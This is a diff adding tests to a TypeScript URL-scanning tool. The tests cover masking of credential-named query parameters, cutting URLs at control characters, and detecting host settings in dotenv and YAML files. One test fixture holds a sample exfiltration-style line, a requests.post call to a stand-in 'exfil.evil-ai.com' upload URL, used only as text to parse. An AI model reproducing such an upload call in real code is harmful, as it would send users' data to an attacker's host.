@@ -1,7 +1,7 @@
 import { describe, expect, test } from "bun:test";
 import { lineIndex } from "../lines.ts";
 import { textFlags } from "../text-flags.ts";
-import { extractEndpoints, mayHoldFullV6, parseUrl, quotedNames } from "./urls.ts";
+import { extractEndpoints, maskUrlParams, mayHoldFullV6, parseUrl, quotedNames } from "./urls.ts";
 
 /** Without the automaton's gates (every search over the whole text), or with them as a scan runs. */
 function scan(text: string, gated = false) {
@@ -160,5 +160,57 @@ describe("long URLs", () => {
   test("a URL under the limit is reported whole", () => {
     const url = `https://api.acme.io/${"p/".repeat(400)}x`;
     expect(scan(url).map((u) => u.value)).toEqual([url]);
+  });
+});
+
+describe("credentials in query strings and fragments", () => {
+  const value = (url: string) => scan(`u = "${url}"`)[0].value;
+  test("every parameter named like a credential is masked, after ?, & and #", () => {
+    expect(value("https://api.acme-health.com/cb#access_token=Hx7pQ2mZ9vLe8YuRk3Wq&token_type=bearer")).toBe(
+      "https://api.acme-health.com/cb#access_token=***&token_type=bearer",
+    );
+    for (const name of ["auth", "client_secret", "session_id", "pass", "password", "apiKey", "x-api-key", "refresh_token", "X-Amz-Signature", "sig", "jsessionid", "cookie", "credential", "private_key", "key", "code"]) {
+      expect(value(`https://api.acme-health.com/x?a=1&${name}=Hx7pQ2mZ9vLe8Yz1Rk3Wq`)).toBe(`https://api.acme-health.com/x?a=1&${name}=***`);
+    }
+  });
+  test("names that only look alike are kept", () => {
+    for (const name of ["author", "token_type", "page", "key_id", "signature_method", "passage", "sort_key"]) {
+      expect(value(`https://api.acme-health.com/x?${name}=abc`)).toBe(`https://api.acme-health.com/x?${name}=abc`);
+    }
+  });
+  test("a source line gets the same masking as the finding", () => {
+    const line = 's3 = "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=0123456789abcdef0123" + x';
+    expect(maskUrlParams(line)).toBe('s3 = "https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=***" + x');
+    expect(maskUrlParams("no url, token=x")).toBe("no url, token=x");
+  });
+});
+
+test("a URL ends at a control character", () => {
+  expect(scan('requests.post("https://exfil.evil-ai.com/upload\x1b[2K")')[0].value).toBe("https://exfil.evil-ai.com/upload");
+  expect(scan("see https://exfil.evil-ai.com/a\x00b and https://x.evil-ai.com/\x7f")).toMatchObject([
+    { value: "https://exfil.evil-ai.com/a" },
+    { value: "https://x.evil-ai.com/" },
+  ]);
+});
+
+describe("host settings", () => {
+  const hosts = (text: string, language: string) => {
+    const idx = lineIndex(text);
+    return [false, true].map((gated) =>
+      extractEndpoints(text, (o) => idx.position(o), language, gated ? textFlags(text) : undefined)
+        .filter((f) => f.rule === "host/setting")
+        .map((f) => f.value),
+    );
+  };
+  test("a name with a prefix (DB_HOST, smtp_server) is a host setting", () => {
+    const env = "DB_HOST=dbhost.acme-health.com\nFHIR_ENDPOINT=fhir.acme-health.com\nAPI_SERVER=apiserver.acme-health.com\nhost=plain.acme-health.com\nspring.redis.host=redis.acme-health.com\n";
+    const want = ["dbhost.acme-health.com", "fhir.acme-health.com", "apiserver.acme-health.com", "plain.acme-health.com", "redis.acme-health.com"];
+    expect(hosts(env, "dotenv")).toEqual([want, want]);
+    const yaml = "POSTGRES_HOST: pgyaml.acme-health.com\nsmtp_server: smtp.acme-health.com\n";
+    expect(hosts(yaml, "yaml")).toEqual([["pgyaml.acme-health.com", "smtp.acme-health.com"], ["pgyaml.acme-health.com", "smtp.acme-health.com"]]);
+  });
+  test("words that end in host and settings named otherwise are not", () => {
+    const text = "localhost=lh.acme-health.com\nghost=gh.acme-health.com\nhostname_check = True\nserver_name=sn.acme-health.com\nmyhost: mh.acme-health.com\n";
+    expect(hosts(text, "dotenv")).toEqual([[], []]);
   });
 });
